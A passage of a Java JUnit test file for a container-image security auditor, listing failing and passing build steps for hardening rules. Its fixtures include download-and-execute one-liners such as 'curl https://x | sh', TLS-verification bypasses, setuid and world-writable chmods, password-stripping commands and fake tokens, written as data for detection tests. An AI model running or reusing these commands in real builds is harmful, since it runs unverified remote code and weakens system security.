package dev.tallyclerk.registry.audit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tallyclerk.digest.Digest;
import dev.tallyclerk.evidence.Evidence;
import dev.tallyclerk.evidence.EvidenceException;
import dev.tallyclerk.evidence.RefusedEvidence;
import dev.tallyclerk.evidence.Signer;
import dev.tallyclerk.evidence.TrustResult;
import dev.tallyclerk.hardening.Outcome;
import dev.tallyclerk.hardening.Profile;
import dev.tallyclerk.hardening.Rule;
import dev.tallyclerk.hardening.RuleId;
import dev.tallyclerk.hardening.RuleInfo;
import dev.tallyclerk.hardening.RuleParameter;
import dev.tallyclerk.hardening.RuleSetting;
import dev.tallyclerk.hardening.audit.AuditReport;
import dev.tallyclerk.hardening.audit.Auditor;
import dev.tallyclerk.hardening.audit.Baseline;
import dev.tallyclerk.hardening.audit.Decision;
import dev.tallyclerk.hardening.audit.Disposition;
import dev.tallyclerk.hardening.audit.Finding;
import dev.tallyclerk.hardening.audit.Policy;
import dev.tallyclerk.hardening.report.HtmlReporter;
import dev.tallyclerk.hardening.report.JsonReporter;
import dev.tallyclerk.hardening.report.JunitReporter;
import dev.tallyclerk.hardening.report.MarkdownReporter;
import dev.tallyclerk.hardening.report.Reporter;
import dev.tallyclerk.hardening.report.SarifReporter;
import dev.tallyclerk.hardening.report.TextReporter;
import dev.tallyclerk.reference.ResolvedDigest;
import dev.tallyclerk.registry.TestTar;
import dev.tallyclerk.registry.audit.ImageSubject.Layer;
import dev.tallyclerk.registry.filesystem.ImageFileSystem;
import dev.tallyclerk.registry.filesystem.MergeOptions;
import dev.tallyclerk.registry.layer.LayerLimits;
import dev.tallyclerk.registry.layer.LayerReader;
import dev.tallyclerk.registry.model.Descriptor;
import dev.tallyclerk.registry.model.ImageManifest;
import dev.tallyclerk.registry.model.MediaType;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class ImageRulesTest {
    private static final Outcome.Kind PASS = Outcome.Kind.PASS;
    private static final Outcome.Kind FAIL = Outcome.Kind.FAIL;
    private static final Outcome.Kind SILENT = Outcome.Kind.NOT_APPLICABLE;
    private static final Outcome.Kind UNKNOWN = Outcome.Kind.UNKNOWN;
    private static final Outcome.Kind NOT_APPLICABLE = Outcome.Kind.NOT_APPLICABLE;
    private static final String DIGEST = "@sha256:" + "ab".repeat(32);
    private static final Digest SIGNED = Digest.sha256Of(new byte[] {7});

    /** Random, with a right checksum; never valid. */
    private static final String TOKEN = "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";

    private static Arguments of(String rule, Outcome.Kind verdict, String what, ImageSubject image) {
        return Arguments.of(rule, verdict, what, image);
    }

    private static Arguments user(String rule, Outcome.Kind verdict, String user) {
        return of(rule, verdict, "user " + user, Images.execution("'User':'" + user + "'"));
    }

    private static Arguments env(String rule, Outcome.Kind verdict, String variable) {
        // A readable history beside it, so that only the variable decides.
        ImageSubject plain = Images.env(variable);
        String json = new String(
                "{\"architecture\":\"a\",\"os\":\"l\",\"rootfs\":{\"type\":\"layers\",\"diff_ids\":[]},\"config\":{\"Env\":["
                        + quote(variable) + "]},\"history\":" + Images.history("USER 1") + "}");
        return of(
                rule,
                verdict,
                variable,
                rule.equals("IMG-006")
                        ? plain
                        : ImageSubject.builder("test")
                                .config(Images.config(json))
                                .build());
    }

    private static String quote(String text) {
        return '"' + text.replace("\\", "\\\\").replace("\"", "\\\"") + '"';
    }

    private static Arguments built(String rule, Outcome.Kind verdict, String step) {
        return of(rule, verdict, step, Images.built("COPY a / # buildkit", step));
    }

    @Test
    void showsTwentyOfAKindAtMost() {
        for (int urls : new int[] {19, 20, 21}) {
            String add = "ADD " + "https://example.test/x ".repeat(urls) + "/app/ # buildkit";
            List<Finding> findings = Images.findings(Images.built("COPY a / # buildkit", add), "IMG-013");
            Outcome.Fail fail =
                    assertInstanceOf(Outcome.Fail.class, findings.get(0).outcome());
            assertEquals(Math.min(urls, 20), fail.problems().get(0).evidence().size(), urls + " addresses");
        }
    }

    private static Stream<Arguments> cases() {
        return Stream.of(
                        userCases(),
                        healthCases(),
                        secretCases(),
                        networkCases(),
                        fileCases(),
                        addCases(),
                        runCases(),
                        packageCases(),
                        startCases(),
                        provenanceCases(),
                        allowedCases(),
                        signatureCases(),
                        attackCases(),
                        contentCases())
                .flatMap(cases -> cases);
    }

    private static Stream<Arguments> userCases() {
        List<Arguments> cases = new ArrayList<>();
        for (String root : List.of(
                "",
                "root",
                "0",
                "00",
                "0:0",
                "root:root",
                "+0",
                "-0",
                ":5",
                "0:users",
                "4294967296",
                "2147483648:5",
                "-1",
                "9".repeat(30))) {
            cases.add(user("IMG-001", FAIL, root));
        }
        for (String other :
                List.of("app", "1000", "10001:0", "01", "rooty", "0x0", "2147483647", "0002147483647", "+5")) {
            cases.add(user("IMG-001", PASS, other));
        }
        cases.add(of("IMG-001", FAIL, "no user", Images.document("")));
        cases.add(of("IMG-001", FAIL, "administrator of Windows", Images.windows("ContainerAdministrator")));
        cases.add(of("IMG-001", FAIL, "system of Windows", Images.windows("NT AUTHORITY\\\\SYSTEM")));
        cases.add(of("IMG-001", FAIL, "root that is said to be of Windows", Images.windows("root")));
        cases.add(of("IMG-001", FAIL, "zero that is said to be of Windows", Images.windows("0")));
        cases.add(of("IMG-001", PASS, "user of Windows", Images.windows("ContainerUser")));
        cases.add(of("IMG-001", UNKNOWN, "no user of Windows", Images.windows("")));
        cases.add(user("IMG-002", FAIL, "app"));
        cases.add(user("IMG-002", FAIL, "root"));
        cases.add(user("IMG-002", FAIL, "app:1"));
        cases.add(user("IMG-002", PASS, "1000:app"));
        cases.add(user("IMG-002", SILENT, ""));
        cases.add(built("IMG-018", FAIL, "/bin/sh -c a && sudo -u b c"));
        cases.add(built("IMG-018", FAIL, "RUN /bin/sh -c /usr/bin/sudo x # buildkit"));
        cases.add(built("IMG-018", PASS, "/bin/sh -c apt-get install sudo"));
        cases.add(built("IMG-018", PASS, "/bin/sh -c echo 'x; sudo y'"));
        return cases.stream();
    }

    private static Stream<Arguments> healthCases() {
        return Stream.of(
                of("IMG-004", FAIL, "no check", Images.document("")),
                of("IMG-004", FAIL, "null", Images.execution("'Healthcheck':null")),
                of("IMG-004", FAIL, "inherited", Images.execution("'Healthcheck':{'Interval':1}")),
                of("IMG-004", PASS, "CMD", Images.execution("'Healthcheck':{'Test':['CMD','x']}")),
                of("IMG-004", PASS, "CMD-SHELL", Images.execution("'Healthcheck':{'Test':['CMD-SHELL','x']}")),
                of("IMG-004", FAIL, "of no kind", Images.execution("'Healthcheck':{'Test':['curl','x']}")),
                of("IMG-004", FAIL, "small letters", Images.execution("'Healthcheck':{'Test':['none']}")),
                of("IMG-004", FAIL, "no command", Images.execution("'Healthcheck':{'Test':['CMD']}")),
                of("IMG-004", FAIL, "empty command", Images.execution("'Healthcheck':{'Test':['CMD-SHELL','']}")),
                of("IMG-004", SILENT, "NONE", Images.execution("'Healthcheck':{'Test':['NONE']}")),
                of("IMG-005", FAIL, "NONE", Images.execution("'Healthcheck':{'Test':['NONE']}")),
                of("IMG-005", PASS, "CMD", Images.execution("'Healthcheck':{'Test':['CMD','NONE']}")),
                of("IMG-005", SILENT, "no check", Images.document("")));
    }

    private static Stream<Arguments> secretCases() {
        return Stream.of(
                env("IMG-006", FAIL, "DB_PASSWORD=hunter2-fake"),
                env("IMG-006", FAIL, "NOTE=" + TOKEN),
                env("IMG-006", FAIL, "DATABASE_URL=postgres://a:b1@db/x"),
                env("IMG-006", PASS, "KEYBOARD_LAYOUT=us"),
                env("IMG-006", PASS, "TOKENIZERS_PARALLELISM=false"),
                env("IMG-006", PASS, "SSL_CERT_FILE=/etc/ssl/certs/ca.pem"),
                env("IMG-006", PASS, "DB_PASSWORD="),
                env("IMG-006", PASS, "DB_PASSWORD_FILE=/run/secrets/db"),
                env("IMG-006", PASS, "GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D"),
                built("IMG-007", FAIL, "/bin/sh -c #(nop)  ENV DB_PASSWORD=hunter2-fake"),
                built("IMG-007", FAIL, "|1 NPM_TOKEN=npm_fake /bin/sh -c npm ci"),
                built("IMG-007", FAIL, "RUN |1 NPM_TOKEN=npm_fake /bin/sh -c npm ci # buildkit"),
                built("IMG-007", FAIL, "/bin/sh -c git clone https://bob:fake-pass@git.example.test/x.git"),
                built("IMG-007", FAIL, "/bin/sh -c curl -H 'Authorization: token " + TOKEN + "' x"),
                built("IMG-007", FAIL, "/bin/sh -c export API_KEY=abc"),
                built("IMG-007", FAIL, "/bin/sh -c mysql --password=abc"),
                built("IMG-007", FAIL, "/bin/sh -c echo \"API_KEY=abc B=c\" > .env"),
                env("IMG-006", FAIL, "DB_PASSWORD=$ecretPa55"),
                env("IMG-006", PASS, "DB_PASSWORD=$OTHER"),
                env("IMG-006", PASS, "TOKEN=none"),
                built("IMG-007", FAIL, "LABEL token=abc"),
                built("IMG-007", FAIL, "ENV A={\\\"auths\\\":{\\\"x\\\":{\\\"auth\\\":\\\"dXNlcjpwYXNz\\\"}}}"),
                built("IMG-007", FAIL, "/bin/sh -c docker login -u bob -p pw1-fake registry.example"),
                built("IMG-007", FAIL, "/bin/sh -c docker login -u bob --password pw1-fake"),
                built("IMG-007", FAIL, "/bin/sh -c helm registry login -u bob -ppw1-fake x"),
                built("IMG-007", FAIL, "/bin/sh -c curl -u bob:pw1-fake https://x"),
                built("IMG-007", FAIL, "/bin/sh -c curl -fsSLubob:pw1-fake https://x"),
                built("IMG-007", FAIL, "/bin/sh -c curl --user bob:pw1-fake https://x"),
                built("IMG-007", FAIL, "/bin/sh -c curl -H 'Authorization: Bearer abc-fake' https://x"),
                built("IMG-007", FAIL, "/bin/sh -c curl --header 'PRIVATE-TOKEN: abc-fake' https://x"),
                built("IMG-007", FAIL, "/bin/sh -c wget --header='authorization: basic YTpi' https://x"),
                built("IMG-007", FAIL, "/bin/sh -c echo \"//registry.example/:_authToken=abc-fake\" > .npmrc"),
                built("IMG-007", FAIL, "/bin/sh -c npm config set //registry.example/:_authToken abc-fake"),
                built("IMG-007", FAIL, "/bin/sh -c aws configure set aws_secret_access_key abc-fake"),
                built("IMG-007", FAIL, "/bin/sh -c sshpass -p pw1-fake ssh -p 22 a@b"),
                built("IMG-007", FAIL, "/bin/sh -c echo machine x login bob password pw1-fake >> ~/.netrc"),
                built("IMG-007", FAIL, "/bin/sh -c printf 'machine x\\nlogin bob\\npassword pw1-fake\\n' > ~/.netrc"),
                built("IMG-007", PASS, "/bin/sh -c docker login -u bob -p $PASSWORD registry.example"),
                built("IMG-007", PASS, "/bin/sh -c docker login -u bob -p \"$(cat /run/secrets/p)\" x"),
                built("IMG-007", PASS, "/bin/sh -c docker login -u bob --password-stdin x"),
                built("IMG-007", PASS, "/bin/sh -c docker run login -p 80:80"),
                built("IMG-007", PASS, "/bin/sh -c curl -u bob: --negotiate -u : https://x"),
                built("IMG-007", PASS, "/bin/sh -c curl -u $USER:$PASS https://x"),
                built("IMG-007", PASS, "/bin/sh -c curl -u bob:${PASS} https://x"),
                built("IMG-007", PASS, "/bin/sh -c curl -o -u bob:x https://x"),
                built("IMG-007", PASS, "/bin/sh -c curl -H \"Authorization: Bearer $TOKEN\" https://x"),
                built("IMG-007", PASS, "/bin/sh -c curl -H \"Authorization: Bearer $(cat /t)\" https://x"),
                built("IMG-007", PASS, "/bin/sh -c curl -H 'X-aws-ec2-metadata-token-ttl-seconds: 21600' http://x"),
                built("IMG-007", PASS, "/bin/sh -c echo \"//registry.example/:_authToken=${NPM_TOKEN}\" > .npmrc"),
                built("IMG-007", PASS, "/bin/sh -c npm config set registry https://x"),
                built("IMG-007", PASS, "/bin/sh -c aws configure set region eu-west-1"),
                built("IMG-007", PASS, "/bin/sh -c sshpass -e ssh -p 2222 a@b"),
                built("IMG-007", PASS, "/bin/sh -c echo login failed password incorrect"),
                built("IMG-007", PASS, "/bin/sh -c echo machine x login bob password $PW"),
                built("IMG-007", PASS, "ENV MONKEY=banana"),
                built("IMG-007", PASS, "ARG NPM_TOKEN"),
                built("IMG-007", PASS, "/bin/sh -c API_KEY=$(cat /run/secrets/key) make"),
                built("IMG-007", PASS, "/bin/sh -c sed -i 's/password=.*/password=/' x"),
                built("IMG-007", PASS, "/bin/sh -c make TOKEN=$TOKEN"),
                of("IMG-008", FAIL, "secret", Images.execution("'Labels':{'api.token':'abc'}")),
                of("IMG-008", FAIL, "token", Images.execution("'Labels':{'note':'" + TOKEN + "'}")),
                of("IMG-008", PASS, "other", Images.execution("'Labels':{'maintainer':'a@example.test'}")),
                of("IMG-008", PASS, "none", Images.document("")),
                built("IMG-022", FAIL, "/bin/sh -c echo 'root:toor-fake' | chpasswd"),
                built("IMG-022", FAIL, "/bin/sh -c chpasswd -e < /tmp/x"),
                built("IMG-022", FAIL, "/bin/sh -c echo x | passwd --stdin app"),
                built("IMG-022", FAIL, "/bin/sh -c usermod -p x app"),
                built("IMG-022", FAIL, "/bin/sh -c usermod -p '' root"),
                built("IMG-022", FAIL, "/bin/sh -c useradd --password= app"),
                built("IMG-022", FAIL, "/bin/sh -c echo root:pw > /tmp/x"),
                built("IMG-022", FAIL, "/bin/sh -c useradd -m -p '$6$fake' app"),
                built("IMG-022", FAIL, "/bin/sh -c useradd --password=x app"),
                built("IMG-022", FAIL, "/bin/sh -c passwd -d root"),
                built("IMG-022", PASS, "/bin/sh -c useradd -p '*' app && usermod -p '!' b"),
                built("IMG-022", PASS, "/bin/sh -c passwd -d git"),
                built("IMG-022", PASS, "/bin/sh -c echo 'root:x:0:0:root:/root:/bin/sh' > /etc/passwd"),
                built("IMG-022", PASS, "/bin/sh -c passwd -l root"),
                built("IMG-022", PASS, "/bin/sh -c apt-get install chpasswd"),
                built("IMG-022", PASS, "/bin/sh -c usermod -aG docker app"));
    }

    private static Stream<Arguments> networkCases() {
        return Stream.of(
                of("IMG-009", FAIL, "22", Images.execution("'ExposedPorts':{'22/tcp':{}}")),
                of("IMG-009", FAIL, "2375", Images.execution("'ExposedPorts':{'8080/tcp':{},'2375':{}}")),
                of("IMG-009", PASS, "2222", Images.execution("'ExposedPorts':{'2222/tcp':{},'222/tcp':{}}")),
                of("IMG-009", PASS, "none", Images.document("")),
                of("IMG-009", UNKNOWN, "no port", Images.execution("'ExposedPorts':{'ssh/tcp':{}}")),
                of("IMG-010", FAIL, "443", Images.execution("'ExposedPorts':{'443/tcp':{}}")),
                of("IMG-010", FAIL, "1023", Images.execution("'ExposedPorts':{'1023/udp':{}}")),
                of("IMG-010", PASS, "1024", Images.execution("'ExposedPorts':{'1024/tcp':{}}")),
                env("IMG-020", FAIL, "NODE_TLS_REJECT_UNAUTHORIZED=0"),
                env("IMG-020", FAIL, "PYTHONHTTPSVERIFY=0"),
                env("IMG-020", FAIL, "GIT_SSL_NO_VERIFY=1"),
                env("IMG-020", FAIL, "npm_config_strict_ssl=false"),
                env("IMG-020", FAIL, "PIP_TRUSTED_HOST=pypi.example.test"),
                env("IMG-020", PASS, "NODE_TLS_REJECT_UNAUTHORIZED=1"),
                env("IMG-020", PASS, "PIP_TRUSTED_HOST="),
                built("IMG-020", FAIL, "/bin/sh -c pip config set global.trusted-host pypi.example.org"),
                built("IMG-020", FAIL, "/bin/sh -c conda config --set ssl_verify false"),
                built("IMG-020", PASS, "/bin/sh -c conda config --set ssl_verify true"),
                built("IMG-020", FAIL, "/bin/sh -c curl -k https://x"),
                built("IMG-020", FAIL, "/bin/sh -c curl -fsSLk https://x"),
                built("IMG-020", FAIL, "/bin/sh -c dl() { curl -k https://x; }; dl"),
                built("IMG-020", FAIL, "/bin/bash -c function dl { curl -k https://x; }; dl"),
                built("IMG-020", FAIL, "/bin/sh -c bash <<E && true\ncurl -k https://x\nE"),
                built("IMG-020", FAIL, "/bin/sh -c sudo curl --insecure https://x"),
                built("IMG-020", FAIL, "/bin/sh -c wget --no-check-certificate https://x"),
                built("IMG-020", FAIL, "/bin/sh -c npm config set strict-ssl false"),
                built("IMG-020", FAIL, "/bin/sh -c npm i --strict-ssl=false"),
                built("IMG-020", FAIL, "/bin/sh -c pip install --trusted-host x y"),
                built("IMG-020", FAIL, "/bin/sh -c git -c http.sslVerify=false clone x"),
                built("IMG-020", FAIL, "/bin/sh -c git config --global http.sslVerify false"),
                built("IMG-020", FAIL, "/bin/sh -c yum --setopt=sslverify=0 install x"),
                built("IMG-020", FAIL, "/bin/sh -c GIT_SSL_NO_VERIFY=true git clone x"),
                built("IMG-020", FAIL, "/bin/sh -c export NODE_TLS_REJECT_UNAUTHORIZED=0"),
                built("IMG-020", FAIL, "ENV PYTHONHTTPSVERIFY=0"),
                built("IMG-020", FAIL, "/bin/sh -c apt-get -o Acquire::https::Verify-Peer=false update"),
                built(
                        "IMG-020",
                        FAIL,
                        "/bin/sh -c echo 'Acquire::https::Verify-Peer \"false\";' > /etc/apt/apt.conf.d/x"),
                built("IMG-020", FAIL, "/bin/sh -c aria2c --check-certificate=false https://x"),
                built("IMG-020", PASS, "/bin/sh -c apt-get -o Acquire::https::Verify-Peer=true update"),
                built("IMG-020", PASS, "/bin/sh -c aria2c https://x"),
                built("IMG-020", PASS, "/bin/sh -c curl -fsSL https://x -o k"),
                built("IMG-020", PASS, "/bin/sh -c curl -ok https://x"),
                built("IMG-020", PASS, "/bin/sh -c curl -H -k https://x"),
                built("IMG-020", PASS, "/bin/sh -c tar -k x"),
                built("IMG-020", PASS, "/bin/sh -c git config http.sslVerify true"));
    }

    private static Stream<Arguments> fileCases() {
        return Stream.of(
                of("IMG-011", FAIL, "/proc", Images.execution("'Volumes':{'/proc':{}}")),
                of("IMG-011", FAIL, "the root", Images.execution("'Volumes':{'/':{}}")),
                of("IMG-011", FAIL, "programs", Images.execution("'Volumes':{'/bin':{}}")),
                of("IMG-011", FAIL, "programs of root", Images.execution("'Volumes':{'/sbin/x':{}}")),
                of("IMG-011", FAIL, "libraries", Images.execution("'Volumes':{'/lib64':{}}")),
                of("IMG-011", FAIL, "home of root", Images.execution("'Volumes':{'/root/':{}}")),
                of("IMG-011", FAIL, "sockets", Images.execution("'Volumes':{'/run':{}}")),
                of("IMG-011", PASS, "own sockets", Images.execution("'Volumes':{'/run/mysqld':{},'/rootfs':{}}")),
                of("IMG-011", FAIL, "below", Images.execution("'Volumes':{'/usr/share/x':{}}")),
                of("IMG-011", FAIL, "not clean", Images.execution("'Volumes':{'/data/..//etc/':{}}")),
                of("IMG-011", PASS, "/data", Images.execution("'Volumes':{'/data':{},'/etcetera':{},'/var/lib/x':{}}")),
                built("IMG-023", FAIL, "/bin/sh -c chmod 777 /opt"),
                built("IMG-023", FAIL, "/bin/sh -c chmod -R 0666 /opt"),
                built("IMG-023", FAIL, "/bin/sh -c chmod a+w /opt"),
                built("IMG-023", FAIL, "/bin/sh -c chmod u=rwx,o+rw /opt"),
                built("IMG-023", FAIL, "/bin/sh -c chmod u+s /x"),
                built("IMG-023", FAIL, "/bin/sh -c chmod +s /x"),
                built("IMG-023", FAIL, "COPY --chmod=777 a /b # buildkit"),
                built("IMG-023", FAIL, "ADD --chown=1:1 --chmod=a+w a /b # buildkit"),
                built("IMG-023", PASS, "COPY --chmod=755 a /b # buildkit"),
                built("IMG-023", FAIL, "/bin/sh -c chmod 4755 /x"),
                built("IMG-023", FAIL, "/bin/sh -c find /x -exec chmod 777 {} +"),
                built("IMG-023", FAIL, "/bin/sh -c install -m 4755 a /usr/bin/a"),
                built("IMG-023", FAIL, "/bin/sh -c install -D --mode=u+s a /usr/bin/a"),
                built("IMG-023", FAIL, "/bin/sh -c mkdir -m 777 /opt/a"),
                built("IMG-023", FAIL, "/bin/sh -c mkdir -pm777 /opt/a"),
                built("IMG-023", FAIL, "/bin/sh -c chmod g+s /usr/local/bin/a"),
                built("IMG-023", FAIL, "/bin/sh -c chmod 2755 /usr/bin/a"),
                built("IMG-023", PASS, "/bin/sh -c chmod g+s /data && chmod 2775 /srv"),
                built("IMG-023", PASS, "/bin/sh -c install -m 755 -o root -g 777 a /usr/bin/a"),
                built("IMG-023", PASS, "/bin/sh -c mkdir -m 1777 /opt/a && mkdir -p /opt/777"),
                built("IMG-023", PASS, "/bin/sh -c chmod 1777 /tmp"),
                built("IMG-023", PASS, "/bin/sh -c chmod 755 /x && chmod u+w,g-w,o-w /y && chmod -x /z && chmod +w /a"),
                built("IMG-023", PASS, "/bin/sh -c echo chmod 777 /x"),
                env("IMG-032", FAIL, "LD_PRELOAD=/x.so"),
                env("IMG-032", FAIL, "LD_AUDIT=/x.so"),
                env("IMG-032", FAIL, "PATH=/usr/bin::/bin"),
                env("IMG-032", FAIL, "PATH=/usr/bin:."),
                env("IMG-032", FAIL, "PATH=bin:/usr/bin"),
                env("IMG-032", FAIL, "LD_LIBRARY_PATH=/usr/lib:/tmp/x"),
                env("IMG-032", FAIL, "LD_LIBRARY_PATH=/usr/lib:"),
                env("IMG-032", PASS, "PATH=/usr/bin:/bin"),
                env("IMG-032", PASS, "LD_PRELOAD="),
                env("IMG-032", PASS, "PATH=C:\\Windows\\System32;C:\\Windows"),
                of("IMG-032", FAIL, "opened by the build", opened("chmod 777 /opt/tools", "/opt/tools:/bin")),
                of("IMG-032", FAIL, "opened above", opened("chmod -R a+w /opt", "/opt/tools:/bin")),
                of("IMG-032", PASS, "closed again", opened("chmod 777 /opt/t; chmod 755 /opt/t", "/opt/t:/bin")),
                of("IMG-032", PASS, "opened elsewhere", opened("chmod 777 /opt", "/opt/tools:/bin")),
                of("IMG-032", UNKNOWN, "no history", Images.env("PATH=/usr/bin")),
                of("IMG-033", FAIL, "/etc", Images.execution("'WorkingDir':'/etc/'")),
                of("IMG-033", SILENT, "/", Images.execution("'WorkingDir':'/'")),
                of("IMG-033", FAIL, "below /proc", Images.execution("'WorkingDir':'/proc/1'")),
                of("IMG-033", PASS, "/usr/src/app", Images.execution("'WorkingDir':'/usr/src/app'")),
                of("IMG-033", SILENT, "none", Images.document("")));
    }

    private static ImageSubject opened(String command, String path) {
        String json = "{\"architecture\":\"a\",\"os\":\"l\",\"rootfs\":{\"type\":\"layers\",\"diff_ids\":[]},"
                + "\"config\":{\"Env\":[\"PATH=" + path + "\"]},\"history\":" + Images.history("/bin/sh -c " + command)
                + "}";
        return ImageSubject.builder("test").config(Images.config(json)).build();
    }

    private static Stream<Arguments> addCases() {
        return Stream.of(
                built("IMG-012", FAIL, "/bin/sh -c #(nop) ADD file:9e22f1 in /app/ "),
                built("IMG-012", FAIL, "ADD x.tar / # buildkit"),
                built("IMG-012", PASS, "COPY ADD /app/ # buildkit"),
                built("IMG-012", PASS, "ENV ADDRESS=10.0.0.1"),
                built("IMG-012", PASS, "/bin/sh -c apk ADD in buildkit"),
                of("IMG-012", PASS, "base", Images.built("/bin/sh -c #(nop) ADD file:0011 in / ")),
                of("IMG-012", PASS, "base", Images.built("ADD rootfs.tar.xz / # buildkit")),
                of("IMG-012", FAIL, "no base", Images.built("/bin/sh -c #(nop) ADD file:0011 in /app ")),
                of("IMG-012", FAIL, "downloaded base", Images.built("ADD https://example.test/x.tar / # buildkit")),
                built("IMG-013", FAIL, "/bin/sh -c #(nop) ADD https://example.test/y in /app/y "),
                built("IMG-013", FAIL, "ADD HTTP://example.test/x /app/x # buildkit"),
                built("IMG-013", PASS, "ADD --checksum=sha256:ab https://example.test/x /app/x # buildkit"),
                built("IMG-013", PASS, "ADD x https:/ # buildkit"),
                built("IMG-013", PASS, "COPY https://x /y"),
                of("IMG-030", FAIL, "trigger", Images.withStrings("OnBuild", "RUN make")),
                of("IMG-030", PASS, "none", Images.document("'config':{'OnBuild':[]}")));
    }

    private static Stream<Arguments> runCases() {
        return Stream.of(
                built("IMG-019", FAIL, "/bin/bash -c source <(curl -s https://x)"),
                built("IMG-019", FAIL, "/bin/bash -c . <(curl -s https://x)"),
                built("IMG-019", FAIL, "/bin/sh -c eval \"$(curl -s https://x)\""),
                built("IMG-019", FAIL, "/bin/sh -c curl -L https://cpanmin.us | perl - App::cpanminus"),
                built("IMG-019", FAIL, "/bin/sh -c curl https://x | node"),
                built("IMG-019", FAIL, "/bin/sh -c curl -sS https://x | php -- --install-dir=/usr/local/bin"),
                built("IMG-019", FAIL, "/bin/sh -c curl -sS https://x | php -d memory_limit=-1"),
                built("IMG-019", FAIL, "/bin/sh -c curl -sS https://x | node --input-type=module -"),
                built("IMG-019", FAIL, "/bin/sh -c curl -sS https://x | perl -MEnv -"),
                built("IMG-019", PASS, "/bin/sh -c curl https://x | node --eval 1"),
                built("IMG-019", PASS, "/bin/sh -c curl https://x | php -r 'echo 1;'"),
                built("IMG-019", PASS, "/bin/sh -c curl https://x | perl -pe s/a/b/"),
                built("IMG-019", PASS, "/bin/sh -c curl https://x | node script.js"),
                built("IMG-019", PASS, "/bin/sh -c . /etc/profile && curl https://x"),
                built("IMG-019", FAIL, "/bin/sh -c curl -fsSL https://x | sh"),
                built("IMG-019", FAIL, "/bin/sh -c wget -qO- https://x | sudo -E bash -"),
                built("IMG-019", FAIL, "/bin/sh -c curl x | tee y | bash -s -- --yes"),
                built("IMG-019", FAIL, "/bin/sh -c curl x | python3"),
                built("IMG-019", FAIL, "/bin/sh -c curl x | python3 - --version 1"),
                built("IMG-019", FAIL, "/bin/sh -c sh -c \"$(curl -fsSL https://x)\""),
                built("IMG-019", FAIL, "/bin/sh -c bash <(curl -s x)"),
                built("IMG-019", FAIL, "/bin/sh -c (curl x) | sh"),
                built("IMG-019", FAIL, "/bin/sh -c curl x |\n  sh"),
                built("IMG-019", FAIL, "/bin/sh -c dl() { curl x | sh; }; dl"),
                built("IMG-019", FAIL, "/bin/sh -c bash <<E && true\ncurl x | sh\nE"),
                built("IMG-019", FAIL, "/bin/sh -c bash <<E | tee log\ncurl x | sh\nE"),
                built("IMG-019", FAIL, "/bin/sh -c bash -c 'curl x | sh'"),
                built("IMG-019", PASS, "/bin/sh -c curl x | tar xz && sh install.sh"),
                built("IMG-019", PASS, "/bin/sh -c curl x | python3 -c 'import json'"),
                built("IMG-019", PASS, "/bin/sh -c curl x | python3 -m json.tool"),
                built("IMG-019", PASS, "/bin/sh -c curl x | sh filter.sh"),
                built("IMG-019", PASS, "/bin/sh -c curl x || sh y"),
                built("IMG-019", PASS, "/bin/sh -c echo 'curl x | sh'"),
                built("IMG-019", PASS, "/bin/sh -c cat x | sh"));
    }

    private static Stream<Arguments> packageCases() {
        return Stream.of(
                built("IMG-014", FAIL, "/bin/sh -c apt-get update"),
                built("IMG-014", FAIL, "/bin/sh -c apt-get -qq update && apt-get clean"),
                built("IMG-014", FAIL, "/bin/sh -c apt-get install x && apt-get update"),
                built("IMG-014", FAIL, "/bin/sh -c apk update; apt-get update; apt-get install x"),
                built("IMG-014", FAIL, "/bin/sh -c yum -y update"),
                built("IMG-014", PASS, "/bin/sh -c apt-get update && apt-get install x"),
                built("IMG-014", PASS, "/bin/sh -c apt-get update && apt-get -o A=b -y upgrade"),
                built("IMG-014", PASS, "/bin/sh -c apk update && apk add x"),
                built("IMG-014", PASS, "COPY autoupdate.cfg /app/ # buildkit"),
                built("IMG-014", PASS, "/bin/sh -c echo apt-get update"),
                built("IMG-014", PASS, "/bin/sh -c cp autoupdate.cfg apt-get"),
                built("IMG-015", FAIL, "/bin/sh -c apt-get update"),
                built("IMG-015", FAIL, "/bin/sh -c rm -rf /var/lib/apt/lists/* && apt-get install x"),
                built("IMG-015", FAIL, "/bin/sh -c apt-get install x && rm /var/lib/apt/lists/lock"),
                built(
                        "IMG-015",
                        PASS,
                        "/bin/sh -c apt-get update && apt-get install x && rm -rf /tmp/* /var/lib/apt/lists/*"),
                built("IMG-015", PASS, "/bin/sh -c apt-get install x; rm -fr /var/lib/apt/lists"),
                built("IMG-015", PASS, "/bin/sh -c apk add x"),
                built("IMG-014", PASS, "/bin/sh -c apt-get update && eatmydata apt-get install x"),
                built("IMG-014", FAIL, "/bin/sh -c dnf makecache"),
                built("IMG-015", PASS, "/bin/sh -c apt-get install x && find /var/lib/apt/lists -type f -delete"),
                built("IMG-015", FAIL, "/bin/sh -c apt-get install x && find /tmp -type f -delete"),
                built("IMG-015", FAIL, "/bin/sh -c apt-get install x && find /var/lib/apt/lists -name a -delete"),
                built("IMG-016", FAIL, "/bin/sh -c apk add x"),
                built("IMG-016", FAIL, "/bin/sh -c apk -U add x"),
                built("IMG-016", PASS, "/bin/sh -c apk add --no-cache x"),
                built("IMG-016", PASS, "/bin/sh -c apk --no-cache add x"),
                built("IMG-016", PASS, "/bin/sh -c apk del x"),
                built("IMG-017", FAIL, "/bin/sh -c apt-get -y dist-upgrade"),
                built("IMG-017", FAIL, "/bin/sh -c apt full-upgrade"),
                built("IMG-017", FAIL, "/bin/sh -c zypper -n dup"),
                built("IMG-017", PASS, "/bin/sh -c apt-get upgrade"),
                built("IMG-017", PASS, "/bin/sh -c echo dist-upgrade"),
                built("IMG-021", FAIL, "/bin/sh -c apt-get install -y --allow-unauthenticated x"),
